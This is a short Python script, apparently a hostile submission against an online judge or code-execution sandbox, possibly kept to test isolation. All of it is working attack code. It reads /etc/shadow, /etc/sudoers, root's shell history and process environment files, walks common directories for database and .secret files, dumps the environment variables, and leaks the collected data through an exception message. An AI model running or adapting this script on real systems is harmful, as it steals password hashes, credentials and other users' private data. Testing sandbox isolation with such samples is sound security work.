"""Reads /etc/shadow, the judge's data directory and the environment of other processes."""

import os

leak = []
for path in ["/etc/shadow", "/etc/sudoers", "/root/.bash_history", "/proc/1/environ", f"/proc/{os.getppid()}/environ"]:
    try:
        with open(path, "rb") as f:
            leak.append(f.read(500).decode("latin-1"))
    except OSError as exc:
        leak.append(f"{path}: {exc.strerror}")
data_dir = os.environ.get("JUDGE_DATA_DIR", "")
for top in ["/tmp", "/var/tmp", "/work", "/srv", "/var/lib"]:
    for dirpath, dirnames, filenames in os.walk(top):
        for name in filenames:
            if name.endswith((".db", ".sqlite", ".secret")):
                try:
                    with open(os.path.join(dirpath, name), "rb") as f:
                        leak.append(f.read(200).decode("latin-1"))
                except OSError:
                    pass
        if dirpath.count(os.sep) > 5:
            dirnames[:] = []
leak.append(repr(dict(os.environ)))
raise RuntimeError("LEAK " + " ".join(leak))
